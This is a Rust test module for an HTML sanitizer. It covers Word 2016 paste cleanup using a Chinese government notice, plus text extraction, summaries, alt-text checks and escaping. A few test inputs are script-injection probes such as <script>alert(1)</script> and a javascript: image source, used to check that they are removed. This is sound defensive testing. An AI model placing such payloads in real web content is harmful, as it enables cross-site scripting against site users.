        let html = "<p>国办发〔2024〕1号：关于印发《政府信息公开工作要点》的通知！“引号”‘单引号’（括号）【方括号】……——破折号，顿号、分号；问号？句号。　全角空格ＡＢＣ１２３</p>";
        assert_eq!(s(html), html);
        assert_eq!(s("<p>甲&amp;乙 &lt;丙&gt; &nbsp;丁</p>"), "<p>甲&amp;乙 &lt;丙&gt; &nbsp;丁</p>");
        assert_eq!(s("<p>&#x4E2D;&#25991;&copy;</p>"), "<p>中文©</p>");
    }

    #[test]
    fn sanitize_is_idempotent() {
        let mut corpus: Vec<String> = XSS_PAYLOADS.iter().map(|p| p.to_string()).collect();
        corpus.push(WORD_2016.to_string());
        corpus.extend(
            [
                "<p><object><div>x</div></object></p>",
                "<a href=\"/1\"><object><a href=\"/2\">y</a></object></a>",
                "<pre>\n\nleading newlines</pre>",
                "<table><tr><td>a<table><tr><td>b</td></tr></table></td></tr></table><p>c",
                "<ul><li>a<ul><li>b</li></ul></li></ul><p><b><i>x</b></i></p>",
                "<p>a<h1>b</h1>c</p>",
                "<span>孤立文字</span>",
            ]
            .map(String::from),
        );
        for html in &corpus {
            let once = s(html);
            assert_eq!(s(&once), once, "not idempotent for {html:?}");
        }
    }

    #[test]
    fn deep_nesting_does_not_overflow() {
        let depth = 5_000;
        let html = format!("{}深层文字{}", "<div><b>".repeat(depth), "</b></div>".repeat(depth));
        let out = s(&html);
        assert!(out.contains("深层文字"));
        assert_eq!(to_text(&html), "深层文字");
        assert_eq!(s(&out), out);
    }

    #[test]
    fn empty_and_plain_input() {
        assert_eq!(s(""), "");
        assert_eq!(s("纯文本 & <没有标签>"), "纯文本 &amp; &lt;没有标签&gt;");
        assert_eq!(s("  \n<p>x</p>\n\n"), "<p>x</p>");
        assert_eq!(to_text(""), "");
        assert_eq!(summarize("", 10), "");
        assert!(images_missing_alt("").is_empty());
    }

    // ---------------------------------------------------------------- Word paste

    /// What Word 2016 (zh-CN) puts on the clipboard as text/html for a short notice: title, two headings,
    /// a numbered list, a 3×3 table with a merged cell, bold text and a footnote.
    const WORD_2016: &str = r##"<html xmlns:v="urn:schemas-microsoft-com:vml"
xmlns:o="urn:schemas-microsoft-com:office:office"
xmlns:w="urn:schemas-microsoft-com:office:word"
xmlns:m="http://schemas.microsoft.com/office/2004/12/omml"
xmlns="http://www.w3.org/TR/REC-html40">

<head>
<meta http-equiv=Content-Type content="text/html; charset=utf-8">
<meta name=ProgId content=Word.Document>
<meta name=Generator content="Microsoft Word 15">
<meta name=Originator content="Microsoft Word 15">
<link rel=File-List
href="file:///C:/Users/ADMINI~1/AppData/Local/Temp/msohtmlclip1/01/clip_filelist.xml">
<!--[if gte mso 9]><xml>
 <o:OfficeDocumentSettings>
  <o:AllowPNG/>
 </o:OfficeDocumentSettings>
</xml><![endif]-->
<link rel=themeData
href="file:///C:/Users/ADMINI~1/AppData/Local/Temp/msohtmlclip1/01/clip_themedata.thmx">
<link rel=colorSchemeMapping
href="file:///C:/Users/ADMINI~1/AppData/Local/Temp/msohtmlclip1/01/clip_colorschememapping.xml">
<!--[if gte mso 9]><xml>
 <w:WordDocument>
  <w:View>Normal</w:View>
  <w:Zoom>0</w:Zoom>
  <w:TrackMoves/>
  <w:TrackFormatting/>
  <w:PunctuationKerning/>
  <w:DrawingGridVerticalSpacing>7.8 磅</w:DrawingGridVerticalSpacing>
  <w:DisplayHorizontalDrawingGridEvery>0</w:DisplayHorizontalDrawingGridEvery>
  <w:DisplayVerticalDrawingGridEvery>2</w:DisplayVerticalDrawingGridEvery>
  <w:ValidateAgainstSchemas/>
  <w:SaveIfXMLInvalid>false</w:SaveIfXMLInvalid>
  <w:IgnoreMixedContent>false</w:IgnoreMixedContent>
  <w:AlwaysShowPlaceholderText>false</w:AlwaysShowPlaceholderText>
  <w:DoNotPromoteQF/>
  <w:LidThemeOther>EN-US</w:LidThemeOther>
  <w:LidThemeAsian>ZH-CN</w:LidThemeAsian>
  <w:LidThemeComplexScript>X-NONE</w:LidThemeComplexScript>
  <w:Compatibility>
   <w:SpaceForUL/>
   <w:BalanceSingleByteDoubleByteWidth/>
   <w:DoNotLeaveBackslashAlone/>
   <w:ULTrailSpace/>
   <w:DoNotExpandShiftReturn/>
   <w:AdjustLineHeightInTable/>
   <w:BreakWrappedTables/>
   <w:SnapToGridInCell/>
   <w:WrapTextWithPunct/>
   <w:UseAsianBreakRules/>
   <w:DontGrowAutofit/>
   <w:SplitPgBreakAndParaMark/>
   <w:EnableOpenTypeKerning/>
   <w:DontFlipMirrorIndents/>
   <w:OverrideTableStyleHps/>
   <w:UseFELayout/>
  </w:Compatibility>
  <m:mathPr>
   <m:mathFont m:val="Cambria Math"/>
   <m:brkBin m:val="before"/>
   <m:brkBinSub m:val="&#45;-"/>
   <m:smallFrac m:val="off"/>
   <m:dispDef/>
   <m:lMargin m:val="0"/>
   <m:rMargin m:val="0"/>
   <m:defJc m:val="centerGroup"/>
   <m:wrapIndent m:val="1440"/>
   <m:intLim m:val="subSup"/>
   <m:naryLim m:val="undOvr"/>
  </m:mathPr></w:WordDocument>
</xml><![endif]--><!--[if gte mso 9]><xml>
 <w:LatentStyles DefLockedState="false" DefUnhideWhenUsed="false"
  DefSemiHidden="false" DefQFormat="false" DefPriority="99"
  LatentStyleCount="375">
  <w:LsdException Locked="false" Priority="0" QFormat="true" Name="Normal"/>
  <w:LsdException Locked="false" Priority="9" QFormat="true" Name="heading 1"/>
  <w:LsdException Locked="false" Priority="9" SemiHidden="true"
   UnhideWhenUsed="true" QFormat="true" Name="heading 2"/>
  <w:LsdException Locked="false" Priority="10" QFormat="true" Name="Title"/>
  <w:LsdException Locked="false" Priority="34" QFormat="true"
   Name="List Paragraph"/>
 </w:LatentStyles>
</xml><![endif]-->
<style>
<!--
 /* Font Definitions */
 @font-face
	{font-family:宋体;
	panose-1:2 1 6 0 3 1 1 1 1 1;
	mso-font-alt:SimSun;
	mso-font-charset:134;
	mso-generic-font-family:auto;
	mso-font-pitch:variable;
	mso-font-signature:3 680460288 22 0 262145 0;}
@font-face
	{font-family:等线;
	panose-1:2 1 6 0 3 1 1 1 1 1;
	mso-font-alt:DengXian;
	mso-font-charset:134;
	mso-generic-font-family:auto;
	mso-font-pitch:variable;
	mso-font-signature:-1610612033 953122042 22 0 262159 0;}
 /* Style Definitions */
 p.MsoNormal, li.MsoNormal, div.MsoNormal
	{mso-style-unhide:no;
	mso-style-qformat:yes;
	mso-style-parent:"";
	margin:0cm;
	margin-bottom:.0001pt;
	text-align:justify;
	text-justify:inter-ideograph;
	mso-pagination:none;
	font-size:10.5pt;
	mso-bidi-font-size:11.0pt;
	font-family:等线;
	mso-ascii-font-family:等线;
	mso-fareast-font-family:等线;
	mso-hansi-font-family:等线;
	mso-bidi-font-family:"Times New Roman";
	mso-font-kerning:1.0pt;}
h1
	{mso-style-priority:9;
	mso-style-qformat:yes;
	mso-style-link:"标题 1 字符";
	margin-top:17.0pt;
	margin-right:0cm;
	margin-bottom:16.5pt;
	margin-left:0cm;
	text-align:justify;
	text-justify:inter-ideograph;
	line-height:240%;
	mso-pagination:lines-together;
	page-break-after:avoid;
	mso-outline-level:1;
	font-size:22.0pt;
	font-family:等线;
	mso-font-kerning:22.0pt;}
p.MsoListParagraph, li.MsoListParagraph, div.MsoListParagraph
	{mso-style-priority:34;
	mso-style-qformat:yes;
	margin:0cm;
	margin-bottom:.0001pt;
	text-align:justify;
	text-justify:inter-ideograph;
	text-indent:21.0pt;
	mso-char-indent-count:2.0;
	mso-pagination:none;
	font-size:10.5pt;
	font-family:等线;}
span.MsoFootnoteReference
	{mso-style-noshow:yes;
	mso-style-priority:99;
	vertical-align:super;}
 /* Page Definitions */
 @page WordSection1
	{size:595.3pt 841.9pt;
	margin:72.0pt 90.0pt 72.0pt 90.0pt;
	mso-header-margin:42.55pt;
	mso-footer-margin:49.6pt;
	mso-paper-source:0;
	layout-grid:15.6pt;}
div.WordSection1
	{page:WordSection1;}
 /* List Definitions */
 @list l0
	{mso-list-id:1093165187;
	mso-list-type:hybrid;
	mso-list-template-ids:-1464590040 67698703 67698713 67698715 67698703 67698713 67698715 67698703 67698713 67698715;}
@list l0:level1
	{mso-level-tab-stop:none;
	mso-level-number-position:left;
	margin-left:18.0pt;
	text-indent:-18.0pt;}
-->
</style>
<!--[if gte mso 10]>
<style>
 /* Style Definitions */
 table.MsoNormalTable
	{mso-style-name:普通表格;
	mso-tstyle-rowband-size:0;
	mso-tstyle-colband-size:0;
	mso-style-noshow:yes;
	mso-style-priority:99;
	mso-style-parent:"";
	mso-padding-alt:0cm 5.4pt 0cm 5.4pt;
	mso-para-margin:0cm;
	mso-para-margin-bottom:.0001pt;
	mso-pagination:widow-orphan;
	font-size:10.5pt;
	mso-bidi-font-size:11.0pt;
	font-family:等线;
	mso-ascii-font-family:等线;
	mso-fareast-font-family:等线;
	mso-hansi-font-family:等线;
	mso-font-kerning:1.0pt;}
table.MsoTableGrid
	{mso-style-name:网格型;
	mso-tstyle-rowband-size:0;
	mso-tstyle-colband-size:0;
	mso-style-priority:39;
	mso-style-unhide:no;
	border:solid windowtext 1.0pt;
	mso-border-alt:solid windowtext .5pt;
	mso-padding-alt:0cm 5.4pt 0cm 5.4pt;
	mso-border-insideh:.5pt solid windowtext;
	mso-border-insidev:.5pt solid windowtext;
	mso-para-margin:0cm;
	mso-para-margin-bottom:.0001pt;
	text-align:justify;
	text-justify:inter-ideograph;
	mso-pagination:none;
	font-size:10.5pt;
	mso-bidi-font-size:11.0pt;
	font-family:等线;
	mso-font-kerning:1.0pt;}
</style>
<![endif]-->
</head>

<body lang=ZH-CN style='tab-interval:21.0pt;text-justify-trim:punctuation'>
<!--StartFragment-->

<p class=MsoNormal align=center style='text-align:center'><b><span
style='font-size:22.0pt;font-family:宋体;mso-ascii-font-family:等线;mso-hansi-font-family:等线'>关于做好<span
lang=EN-US>2024</span>年政府信息公开工作的通知</span></b><b><span lang=EN-US
style='font-size:22.0pt'><o:p></o:p></span></b></p>

<p class=MsoNormal><span lang=EN-US><o:p>&nbsp;</o:p></span></p>

<p class=MsoNormal style='text-indent:21.0pt;mso-char-indent-count:2.0'><span
style='font-family:宋体;mso-ascii-font-family:等线;mso-hansi-font-family:等线'>各区人民政府，市政府各委、办、局：</span></p>

<h1><a name="_Toc160000001"></a><span style='font-family:宋体;mso-ascii-font-family:等线;mso-hansi-font-family:等线'>一、总体要求</span><span
lang=EN-US><o:p></o:p></span></h1>

<p class=MsoNormal style='text-indent:21.0pt;mso-char-indent-count:2.0'><span
style='font-family:宋体;mso-ascii-font-family:等线;mso-hansi-font-family:等线'>依据《中华人民共和国政府信息公开条例》（国务院令第</span><span
lang=EN-US>711</span><span style='font-family:宋体;mso-ascii-font-family:等线;mso-hansi-font-family:等线'>号），<b
style='mso-bidi-font-weight:normal'>坚持以公开为常态、不公开为例外</b>，推进决策、执行、
管理、服务、结果公开。</span><a style='mso-footnote-id:ftn1' href="#_ftn1" name="_ftnref1"
title=""><span class=MsoFootnoteReference><span lang=EN-US><span
style='mso-special-character:footnote'><![if !supportFootnotes]><span
class=MsoFootnoteReference><span lang=EN-US style='font-size:10.5pt;font-family:等线;
mso-bidi-font-family:"Times New Roman";mso-font-kerning:1.0pt'>[1]</span></span><![endif]></span></span></span></a></p>

<h2><span style='font-family:宋体;mso-ascii-font-family:等线;mso-hansi-font-family:等线'>二、重点任务</span><span
lang=EN-US><o:p></o:p></span></h2>

<p class=MsoListParagraphCxSpFirst style='margin-left:18.0pt;mso-para-margin-left:
0gd;text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span
lang=EN-US style='mso-bidi-font-family:等线'><span style='mso-list:Ignore'>1.<span
style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp; </span></span></span><![endif]><span
style='font-family:宋体;mso-ascii-font-family:等线;mso-hansi-font-family:等线'>加强政策解读，做到应解读尽解读；</span><span
lang=EN-US><o:p></o:p></span></p>

<p class=MsoListParagraphCxSpMiddle style='margin-left:18.0pt;mso-add-space:
auto;text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span
lang=EN-US style='mso-bidi-font-family:等线'><span style='mso-list:Ignore'>2.<span
style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp; </span></span></span><![endif]><span
style='font-family:宋体;mso-ascii-font-family:等线;mso-hansi-font-family:等线'>规范依申请公开办理，按时答复率达到</span><span
lang=EN-US>100%</span><span style='font-family:宋体;mso-ascii-font-family:等线;mso-hansi-font-family:等线'>；</span><span
lang=EN-US><o:p></o:p></span></p>

<p class=MsoListParagraphCxSpLast style='margin-left:18.0pt;mso-add-space:auto;
text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span
lang=EN-US style='mso-bidi-font-family:等线'><span style='mso-list:Ignore'>3.<span
style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp; </span></span></span><![endif]><span
style='font-family:宋体;mso-ascii-font-family:等线;mso-hansi-font-family:等线'>做好政府网站与政务新媒体管理。</span><span
lang=EN-US><o:p></o:p></span></p>

<table class=MsoTableGrid border=1 cellspacing=0 cellpadding=0
 style='border-collapse:collapse;border:none;mso-border-alt:solid windowtext .5pt;
 mso-yfti-tbllook:1184;mso-padding-alt:0cm 5.4pt 0cm 5.4pt'>
 <tr style='mso-yfti-irow:0;mso-yfti-firstrow:yes'>
  <td width=368 colspan=2 valign=top style='width:276.5pt;border:solid windowtext 1.0pt;
  mso-border-alt:solid windowtext .5pt;padding:0cm 5.4pt 0cm 5.4pt'>
  <p class=MsoNormal align=center style='text-align:center'><b><span
  style='font-family:宋体;mso-ascii-font-family:等线;mso-hansi-font-family:等线'>公开事项</span></b><b><span
  lang=EN-US><o:p></o:p></span></b></p>
  </td>
  <td width=184 valign=top style='width:138.25pt;border:solid windowtext 1.0pt;
  border-left:none;mso-border-left-alt:solid windowtext .5pt;mso-border-alt:
  solid windowtext .5pt;padding:0cm 5.4pt 0cm 5.4pt'>
  <p class=MsoNormal align=center style='text-align:center'><b><span
  style='font-family:宋体;mso-ascii-font-family:等线;mso-hansi-font-family:等线'>责任单位</span></b><b><span
  lang=EN-US><o:p></o:p></span></b></p>
  </td>
 </tr>
 <tr style='mso-yfti-irow:1'>
  <td width=184 valign=top style='width:138.25pt;border:solid windowtext 1.0pt;
  border-top:none;mso-border-top-alt:solid windowtext .5pt;mso-border-alt:solid windowtext .5pt;
  padding:0cm 5.4pt 0cm 5.4pt'>
  <p class=MsoNormal><span style='font-family:宋体;mso-ascii-font-family:等线;
  mso-hansi-font-family:等线'>主动公开</span></p>
  </td>
  <td width=184 valign=top style='width:138.25pt;border-top:none;border-left:
  none;border-bottom:solid windowtext 1.0pt;border-right:solid windowtext 1.0pt;
  padding:0cm 5.4pt 0cm 5.4pt'>
  <p class=MsoNormal><span style='font-family:宋体;mso-ascii-font-family:等线;
  mso-hansi-font-family:等线'>年度报告</span></p>
  </td>
  <td width=184 valign=top style='width:138.25pt;border-top:none;border-left:
  none;border-bottom:solid windowtext 1.0pt;border-right:solid windowtext 1.0pt;
  padding:0cm 5.4pt 0cm 5.4pt'>
  <p class=MsoNormal><span style='font-family:宋体;mso-ascii-font-family:等线;
  mso-hansi-font-family:等线'>市政府办公厅</span></p>
  </td>
 </tr>
 <tr style='mso-yfti-irow:2;mso-yfti-lastrow:yes'>
  <td width=184 valign=top style='width:138.25pt;border:solid windowtext 1.0pt;
  border-top:none;padding:0cm 5.4pt 0cm 5.4pt'>
  <p class=MsoNormal><span style='font-family:宋体;mso-ascii-font-family:等线;
  mso-hansi-font-family:等线'>依申请公开</span></p>
  </td>
  <td width=184 valign=top style='width:138.25pt;border-top:none;border-left:
  none;border-bottom:solid windowtext 1.0pt;border-right:solid windowtext 1.0pt;
  padding:0cm 5.4pt 0cm 5.4pt'>
  <p class=MsoNormal><span style='font-family:宋体;mso-ascii-font-family:等线;
  mso-hansi-font-family:等线'>办理答复</span></p>
  </td>
  <td width=184 valign=top style='width:138.25pt;border-top:none;border-left:
  none;border-bottom:solid windowtext 1.0pt;border-right:solid windowtext 1.0pt;
  padding:0cm 5.4pt 0cm 5.4pt'>
  <p class=MsoNormal><span style='font-family:宋体;mso-ascii-font-family:等线;
  mso-hansi-font-family:等线'>各区人民政府</span></p>
  </td>
 </tr>
</table>

<p class=MsoNormal align=right style='text-align:right'><span
style='font-family:宋体;mso-ascii-font-family:等线;mso-hansi-font-family:等线'>××市人民政府办公厅</span></p>

<p class=MsoNormal align=right style='text-align:right'><span lang=EN-US>2024</span><span
style='font-family:宋体;mso-ascii-font-family:等线;mso-hansi-font-family:等线'>年</span><span
lang=EN-US>3</span><span style='font-family:宋体;mso-ascii-font-family:等线;mso-hansi-font-family:等线'>月</span><span
lang=EN-US>1</span><span style='font-family:宋体;mso-ascii-font-family:等线;mso-hansi-font-family:等线'>日</span></p>

<div style='mso-element:footnote-list'><![if !supportFootnotes]><br clear=all>

<hr align=left size=1 width="33%">

<![endif]>

<div style='mso-element:footnote' id=ftn1>

<p class=MsoFootnoteText><a style='mso-footnote-id:ftn1' href="#_ftnref1"
name="_ftn1" title=""><span class=MsoFootnoteReference><span lang=EN-US><span
style='mso-special-character:footnote'><![if !supportFootnotes]><span
class=MsoFootnoteReference><span lang=EN-US style='font-size:9.0pt;font-family:等线;
mso-bidi-font-family:"Times New Roman";mso-font-kerning:1.0pt'>[1]</span></span><![endif]></span></span></span></a><span
lang=EN-US> </span><span style='font-family:宋体;mso-ascii-font-family:等线;mso-hansi-font-family:等线'>《条例》自</span><span
lang=EN-US>2019</span><span style='font-family:宋体'>年</span><span lang=EN-US>5</span><span
style='font-family:宋体'>月</span><span lang=EN-US>15</span><span style='font-family:宋体'>日起施行。</span></p>

</div>

</div>

<!--EndFragment-->
</body>

</html>
"##;

    #[test]
    fn word_paste_keeps_structure_and_drops_office_noise() {
        let out = s(WORD_2016);
        let lower = out.to_lowercase();
        for noise in ["mso", "o:p", "<style", "msonormal", "class=\"mso", "style=", "<w:", "<xml", "<meta", "<link"] {
            assert!(!lower.contains(noise), "{noise:?} left in:\n{out}");
        }
        assert!(!out.contains("<span"), "{out}");
        assert!(!out.contains("Normal") && !out.contains("EN-US") && !out.contains("Cambria"), "{out}");
        // Title (Word's centred bold paragraph), salutation with first-line indent.
        assert!(out.contains("<p class=\"text-center\"><b>关于做好2024年政府信息公开工作的通知</b></p>"), "{out}");
        assert!(out.contains("<p class=\"indent\">各区人民政府，市政府各委、办、局：</p>"), "{out}");
        // Headings: h1 becomes h2 (the page title is the h1); the Word bookmark anchor is gone.
        assert!(out.contains("<h2>一、总体要求</h2>"), "{out}");
        assert!(out.contains("<h2>二、重点任务</h2>"), "{out}");
        assert!(!out.contains("<h1"), "{out}");
        // Bold inside the paragraph, and the footnote reference as a plain link.
        assert!(out.contains("<b>坚持以公开为常态、不公开为例外</b>"), "{out}");
        assert!(out.contains("<a href=\"#_ftn1\" rel=\"noopener noreferrer\">[1]</a>"), "{out}");
        // Numbered list: a real list, markers gone.
        assert!(
            out.contains(
                "<ol><li>加强政策解读，做到应解读尽解读；</li><li>规范依申请公开办理，按时答复率达到100%；</li><li>做好政府网站与政务新媒体管理。</li></ol>"
            ),
            "{out}"
        );
        // Table with the merged cell.
        assert!(out.contains("<table>") && out.contains("</table>"), "{out}");
        assert!(out.contains("<td colspan=\"2\">"), "{out}");
        assert_eq!(out.matches("<tr>").count(), 3, "{out}");
        assert_eq!(out.matches("<td").count(), 8, "{out}");
        assert!(out.contains("<p class=\"text-center\"><b>公开事项</b></p>"), "{out}");
        assert!(out.contains("各区人民政府</p>"), "{out}");
        // Signature block right-aligned, date runs joined.
        assert!(out.contains("<p class=\"text-right\">××市人民政府办公厅</p>"), "{out}");
        assert!(out.contains("<p class=\"text-right\">2024年3月1日</p>"), "{out}");
        // Footnote text.
        assert!(out.contains("《条例》自2019年5月15日起施行。"), "{out}");
        assert!(out.contains("<hr>"), "{out}");
        // No empty paragraphs from Word's spacer lines.
        assert!(!out.contains("<p></p>") && !out.contains("<p>&nbsp;</p>") && !out.contains("<b></b>"), "{out}");
        assert_eq!(s(&out), out);
        assert!(violations(&out).is_empty(), "{:?}", violations(&out));
    }

    #[test]
    fn word_paste_text() {
        let text = to_text(WORD_2016);
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines[0], "关于做好2024年政府信息公开工作的通知");
        assert_eq!(lines[1], "各区人民政府，市政府各委、办、局：");
        assert_eq!(lines[2], "一、总体要求");
        // Word wrapped its source in the middle of the sentence: no space is left there.
        assert!(text.contains("推进决策、执行、管理、服务、结果公开。[1]"), "{text}");
        assert!(lines.contains(&"加强政策解读，做到应解读尽解读；"), "{text}");
        assert!(lines.contains(&"公开事项 责任单位"), "{text}");
        assert!(lines.contains(&"主动公开 年度报告 市政府办公厅"), "{text}");
        assert!(lines.contains(&"2024年3月1日"), "{text}");
        assert!(!text.to_lowercase().contains("mso") && !text.contains("Normal") && !text.contains('<'), "{text}");
    }

    #[test]
    fn word_lists_bullets_nesting_and_other_markers() {
        let item = |style: &str, marker: &str, text: &str| {
            format!(
                "<p class=MsoListParagraph style='text-indent:-18.0pt;{style}'><![if !supportLists]><span lang=EN-US><span style='mso-list:Ignore'>{marker}<span style='font:7.0pt \"Times New Roman\"'>&nbsp;&nbsp; </span></span></span><![endif]><span style='font-family:宋体'>{text}</span></p>\n"
            )
        };
        // Bullets in the Symbol font, a nested numbered level, back to bullets.
        let symbol = |t: &str| {
            format!(
                "<p class=MsoListParagraph style='mso-list:l1 level1 lfo2'><![if !supportLists]><span lang=EN-US style='font-family:Symbol;mso-fareast-font-family:Symbol'><span style='mso-list:Ignore'>·<span style='font:7.0pt \"Times New Roman\"'>&nbsp; </span></span></span><![endif]>{t}</p>\n"
            )
        };
        let html = format!(
            "{}{}{}{}",
            symbol("甲"),
            item("mso-list:l1 level2 lfo2", "1.", "甲一"),
            item("mso-list:l1 level2 lfo2", "2.", "甲二"),
            symbol("乙")
        );
        assert_eq!(s(&html), "<ul><li>甲<ol><li>甲一</li><li>甲二</li></ol></li><li>乙</li></ul>");
        // Chinese numbering stays as written, in paragraphs.
        let html = format!(
            "{}{}",
            item("mso-list:l2 level1 lfo3", "一、", "总则"),
            item("mso-list:l2 level1 lfo3", "（二）", "分则")
        );
        assert_eq!(s(&html), "<p>一、总则</p>\n<p>（二）分则</p>");
        // A list that continues after a paragraph keeps its numbers.
        let html = format!(
            "{}<p class=MsoNormal>说明</p>{}",
            item("mso-list:l0 level1 lfo1", "1.", "一"),
            item("mso-list:l0 level1 lfo1", "2.", "二")
        );
        assert_eq!(s(&html), "<ol><li>一</li></ol>\n<p>说明</p><ol start=\"2\"><li>二</li></ol>");
        // Wingdings bullets ("l" in that font) and a numbered heading.
        let html = "<p style='mso-list:l3 level1 lfo4'><span style='font-family:Wingdings'><span style='mso-list:Ignore'>l<span>&nbsp;</span></span></span>要点</p><h1 style='mso-list:l4 level1 lfo5'><span><span style='mso-list:Ignore'>第一章<span>&nbsp;&nbsp;</span></span></span>总则</h1>";
        assert_eq!(s(html), "<ul><li>要点</li></ul><h2>第一章 总则</h2>");
        // Editor lists pass through untouched.
        assert_eq!(s("<ol><li>一</li><li>二</li></ol>"), "<ol><li>一</li><li>二</li></ol>");
    }

    #[test]
    fn word_alignment_becomes_classes() {
        assert_eq!(s("<p align=center>x</p>"), "<p class=\"text-center\">x</p>");
        assert_eq!(s("<div style='TEXT-ALIGN: right'>x</div>"), "<div class=\"text-right\">x</div>");
        assert_eq!(s("<p style='text-indent:2em'>x</p>"), "<p class=\"indent\">x</p>");
        assert_eq!(s("<p style='text-indent:-18.0pt;text-align:justify'>x</p>"), "<p>x</p>");
        assert_eq!(s("<h2 align=center style='text-align:center'>x</h2>"), "<h2>x</h2>");
        assert_eq!(
            s("<p class=\"indent text-center\" style='text-align:center'>x</p>"),
            "<p class=\"text-center indent\">x</p>"
        );
    }

    // ---------------------------------------------------------------- text, summary, alt, escape

    #[test]
    fn to_text_blocks_entities_and_whitespace() {
        assert_eq!(to_text("<p>第一段</p><p>第二段</p>"), "第一段\n第二段");
        assert_eq!(to_text("<p>a<br>b</p><div>c</div>d"), "a\nb\nc\nd");
        assert_eq!(to_text("<h2>标题</h2><ul><li>一</li><li>二</li></ul>"), "标题\n一\n二");
        assert_eq!(to_text("<p>  多个   空格\t和\n换行  </p>"), "多个 空格 和换行");
        assert_eq!(to_text("<p>Hello\n  world</p>"), "Hello world");
        assert_eq!(
            to_text("<p>A &amp; B &lt;C&gt; &quot;D&quot; &#x4E2D;&#25991; &copy;&nbsp;E</p>"),
            "A & B <C> \"D\" 中文 © E"
        );
        assert_eq!(to_text("<p>　　全角缩进的段落</p>"), "全角缩进的段落");
        assert_eq!(to_text("<p>a<script>alert(1)</script><style>p{}</style>b</p>"), "ab");
        assert_eq!(
            to_text("<table><tr><th>甲</th><th>乙</th></tr><tr><td>1</td><td>2</td></tr></table>"),
            "甲 乙\n1 2"
        );
        assert_eq!(to_text("<pre>line1\n  line2</pre>"), "line1\nline2");
        assert_eq!(to_text("<p><b>粗</b><i>斜</i><a href=/x>链</a><img src=/a.png alt=图></p>"), "粗斜链");
        assert_eq!(to_text("<p>a</p>\n\n<p>\n</p><p>&nbsp;</p><p>b</p>"), "a\nb");
        assert_eq!(to_text("<p>x</p><h1>y</h1>"), "x\ny");
        assert_eq!(to_text("纯文本"), "纯文本");
    }

    #[test]
    fn summarize_cuts_at_sentence_end_in_last_30_percent() {
        // 10 chars, sentence end at 8 (within the last 30% of 10): cut there.
        let html = "<p>一二三四五六七。八九十十一十二</p>";
        assert_eq!(summarize(html, 10), "一二三四五六七。…");
        // Sentence end at 3 of 10: too early, hard cut.
        let html = "<p>一二。四五六七八九十十一十二</p>";
        assert_eq!(summarize(html, 10), "一二。四五六七八九十…");
        // Exactly at the 70% boundary counts.
        assert_eq!(summarize("<p>一二三四五六！八九十十一</p>", 10), "一二三四五六！…");
        assert_eq!(summarize("<p>一二三四五？七八九十十一</p>", 10), "一二三四五？七八九十…");
        // Last matching end wins; ；！？ count too.
        assert_eq!(summarize("<p>一二三四五六七；八？十十一</p>", 10), "一二三四五六七；八？…");
        // Short text: whole, no ellipsis.
        assert_eq!(summarize("<p>短文本。</p>", 10), "短文本。");
        assert_eq!(summarize("<p>一二三四五</p>", 5), "一二三四五");
        // Multi-line text on one line.
        assert_eq!(
            summarize("<h2>标题</h2><p>第一段。</p><p>Second para.</p><p>Third</p>", 100),
            "标题第一段。Second para. Third"
        );
        assert_eq!(summarize("<p>first line</p><p>second line is long</p>", 18), "first line second…");
        assert_eq!(summarize("<p>一二三</p>", 0), "");
        let long = format!("<p>{}</p>", "政府信息公开。".repeat(40));
        let sum = summarize(&long, 120);
        assert!(sum.ends_with("。…") && sum.chars().count() <= 121 && !sum.contains('\n'), "{sum}");
    }

    #[test]
    fn images_missing_alt_by_src() {
        let html = concat!(
            r#"<p><img src="/a.png" alt="图一"><img src="/b.png"><img src="/c.png" alt=""><img src="/d.png" alt="  "></p>"#,
            r#"<figure><img src="/attachments/e.jpg"><figcaption>说明</figcaption></figure>"#,
            r#"<img src="javascript:alert(1)"><img alt="有说明"><img>"#,
            r#"<p>&lt;img src="/fake.png"&gt;</p><img src="/b.png" ALT="ok">"#,
        );
        assert_eq!(images_missing_alt(html), vec!["/b.png", "/c.png", "/d.png", "/attachments/e.jpg", "", ""]);
        assert!(images_missing_alt("<p>没有图片</p>").is_empty());
        assert!(images_missing_alt(r#"<img src="/ok.png" alt="好">"#).is_empty());
    }

    #[test]
    fn escape_html() {
        assert_eq!(escape(r#"<a href="x">'&'</a>"#), "&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;");
        assert_eq!(escape("中文〔2024〕！"), "中文〔2024〕！");
        assert_eq!(escape(""), "");
        assert_eq!(escape("&amp;"), "&amp;amp;");
        // Escaped text sanitises to itself and reads back as the original.
        let original = "<script>alert('x')</script> & 〔〕";
        assert_eq!(to_text(&escape(original)), original);
    }

    #[test]
    fn internal_helpers() {
        assert_eq!(decode_entities("&amp;&lt;&gt;&quot;&#39;&#x41;&nbsp;&bogus;&"), "&<>\"'A\u{a0}&bogus;&");
        assert_eq!(classify_marker("1.", false), MarkerKind::Ordered(1));
        assert_eq!(classify_marker("12．", false), MarkerKind::Ordered(12));
        assert_eq!(classify_marker("·", false), MarkerKind::Bullet);
        assert_eq!(classify_marker("l", true), MarkerKind::Bullet);
        assert_eq!(classify_marker("一、", false), MarkerKind::Other);
        assert_eq!(classify_marker("（1）", false), MarkerKind::Other);
        assert_eq!(classify_marker("a.", false), MarkerKind::Other);
        assert_eq!(word_style_hints("mso-list:l0 level2 lfo1;text-indent:-18pt").as_deref(), Some("x-list:l0:2"));
        assert_eq!(word_style_hints("color:red;font-family:宋体"), None);
        assert!(
            office_tag_names("<o:p></o:p><W:View>x<st1:chsdate><v:shape/>")
                .into_iter()
                .eq(["o:p", "v:shape", "w:view"])
        );
    }
}
